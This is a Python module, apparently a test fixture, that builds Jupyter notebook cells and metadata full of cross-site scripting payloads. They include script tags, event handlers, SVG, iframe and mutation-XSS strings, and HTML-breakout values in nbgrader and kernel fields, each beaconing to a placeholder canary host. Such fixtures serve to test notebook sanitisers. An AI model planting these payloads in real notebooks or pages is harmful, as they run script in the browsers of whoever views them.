"""What a notebook can carry that runs, or asks elsewhere, in the browser of whoever looks at it.

Each trick calls at `CANARY` with its own name, by a script or by what a page loads by itself.
"""

from typing import Any

import nbformat.v4 as nbf
from nbformat import NotebookNode

CANARY = "http://canary.invalid"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def calls(name: str) -> str:
    """JavaScript that calls."""
    return f"new Image().src='{CANARY}/{name}'"


def tag(name: str) -> str:
    """HTML that calls by a script."""
    return f'<img src="x" onerror="{calls(name)}">'


def asks(name: str) -> str:
    """HTML that calls by a picture."""
    return f'<img src="{CANARY}/{name}">'


def _markdown(source: str, **more: Any) -> NotebookNode:
    return nbf.new_markdown_cell(source, **more)


def _shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> NotebookNode:
    return nbf.new_code_cell("...", outputs=[nbf.new_output("display_data", data, metadata=metadata or {})])


def _with(cell: NotebookNode, **more: Any) -> NotebookNode:
    """A cell with what nbformat would not have let through."""
    cell.update(more)
    return cell


def _svg(name: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{calls(name)}"><script>{calls(name)}</script></svg>'


def _stream(text: str, kind: str = "stdout") -> NotebookNode:
    return nbf.new_code_cell("...", outputs=[nbf.new_output("stream", name=kind, text=text)])


def _out(name: str) -> str:
    """Closes whatever HTML may be open."""
    return f"\"'></script></style></textarea></title></pre>{tag(name)}"


def _graded(name: str) -> dict[str, Any]:
    return {
        "nbgrader": {
            "grade": True,
            "solution": True,
            "locked": False,
            "grade_id": _out(name),
            "points": _out(name),
            "schema_version": 3,
        }
    }


#: Cells by trick, as they may stand in a graded notebook.
CELLS: dict[str, NotebookNode] = {
    "markdown-script": _markdown(f"Dear lead\n\n<script>{calls('markdown-script')}</script>"),
    "markdown-handler": _markdown(f"My memo {tag('markdown-handler')}"),
    "markdown-svg": _markdown(_svg("markdown-svg")),
    "markdown-frame": _markdown(f'<iframe srcdoc="<script>{calls("markdown-frame")}</script>"></iframe>'),
    "markdown-object": _markdown(f'<object data="data:text/html,<script>{calls("markdown-object")}</script>"></object>'),
    "markdown-autofocus": _markdown(f'<input autofocus onfocus="{calls("markdown-autofocus")}">'),
    "markdown-details": _markdown(f'<details open ontoggle="{calls("markdown-details")}">x</details>'),
    "markdown-style": _markdown(f"<style>body {{ background: url({CANARY}/markdown-style) }}</style>"),
    "markdown-style-attribute": _markdown(f'<p style="background: url({CANARY}/markdown-style-attribute)">x</p>'),
    "markdown-picture": _markdown(f"![x]({CANARY}/markdown-picture)"),
    "markdown-picture-tag": _markdown(asks("markdown-picture-tag")),
    "markdown-srcset": _markdown(f'<img src="data:image/png;base64,{PNG}" srcset="{CANARY}/markdown-srcset 1x">'),
    "markdown-link-tag": _markdown(f'<link rel="stylesheet" href="{CANARY}/markdown-link-tag">'),
    "markdown-refresh": _markdown(f'<meta http-equiv="refresh" content="0; url={CANARY}/markdown-refresh">'),
    "markdown-base": _markdown(f'<base href="{CANARY}/markdown-base/"><img src="x.png">'),
    "markdown-mermaid": _markdown(f"```mermaid\n</pre>{tag('markdown-mermaid')}\n```"),
    "markdown-code": _markdown(f"```</code></pre>{tag('markdown-code')}\nx\n```"),
    "markdown-maths": _markdown(f"$</span>{tag('markdown-maths')}$\n\n$$\\text{{{tag('markdown-maths')}}}$$"),
    "markdown-mutates": _markdown(
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={calls('markdown-mutates')}&gt;\">"
    ),
    "markdown-noscript": _markdown(f'<noscript><p title="</noscript>{tag("markdown-noscript").replace(chr(34), "&quot;")}">'),
    "attachment": _markdown(
        "![x](attachment:x.png)", attachments={"x.png": {"image/svg+xml": f'"{tag("attachment")}', "image/png": PNG}}
    ),
    "attachment-name": _markdown(f'![x](attachment:a"{tag("attachment-name")})', attachments={f'a"{tag("attachment-name")}': {"image/png": PNG}}),
    "html": _shown({"text/html": f"<b>a table</b><script>{calls('html')}</script>", "text/plain": "a table"}),
    "html-handler": _shown({"text/html": tag("html-handler")}),
    "html-isolated": _shown({"text/html": f"<script>{calls('html-isolated')}</script>"}, {"text/html": {"isolated": True}}),
    "html-picture": _shown({"text/html": asks("html-picture")}),
    "javascript": _shown({"application/javascript": calls("javascript")}),
    "svg": _shown({"image/svg+xml": _svg("svg")}),
    "svg-file": _with(_shown({"image/svg+xml": "<svg/>"})),
    "markdown-output": _shown({"text/markdown": tag("markdown-output")}),
    "latex": _shown({"text/latex": f"$</div>{tag('latex')}$"}),
    "mermaid": _shown({"text/vnd.mermaid": f"</pre>{tag('mermaid')}"}),
    "png": _shown({"image/png": f'"{tag("png")}'}),
    "png-size": _shown({"image/png": PNG}, {"image/png": {"width": f"1 onload=location='{CANARY}/png-size'"}}),
    "png-file": _shown({"image/png": PNG}, {"filenames": {"image/png": f"{CANARY}/png-file"}}),
    "widget-view": _shown({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{tag('widget-view')}"}}),
    "text": _shown({"text/plain": _out("text")}),
    "stream": _stream(_out("stream")),
    "stream-error": _stream(_out("stream-error"), "stderr"),
    "terminal": _stream(f"\x1b[31m{_out('terminal')}\x1b]8;;javascript:{calls('terminal')}\x07x\x1b]8;;\x07"),
    "error": nbf.new_code_cell("...", outputs=[nbf.new_output("error", ename=_out("error"), evalue=_out("error"), traceback=[_out("error")])]),
    "code": nbf.new_code_cell(f"# {_out('code')}"),
    "code-language": _with(nbf.new_code_cell("x"), metadata={"magics_language": _out("code-language")}),
    "raw": nbf.new_raw_cell(_out("raw")),
    "raw-html": nbf.new_raw_cell(_out("raw-html"), metadata={"raw_mimetype": "text/html"}),
    "count": _with(nbf.new_code_cell("x"), execution_count=_out("count")),
    "id": _with(nbf.new_code_cell("x"), id=_out("id")),
    "tags": _markdown("x", metadata={"tags": [_out("tags")]}),
    "grade-id": _markdown("x", metadata=_graded("grade-id")),
    "unknown-cell": NotebookNode(cell_type="heading", id="unknown", type=_out("unknown-cell"), source="x", metadata=NotebookNode()),
}  # fmt: skip
CELLS["svg-file"].outputs[0]["svg_filename"] = f"{CANARY}/svg-file"
#: What the notebook as a whole can say.
METADATA: dict[str, Any] = {
    "title": _out("title"),
    "authors": [{"name": _out("authors")}],
    "kernelspec": {"name": "python3", "display_name": _out("kernelspec"), "language": _out("kernelspec")},
    "language_info": {"name": _out("language"), "pygments_lexer": _out("language")},
    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": _out("widget-state")}}},
}
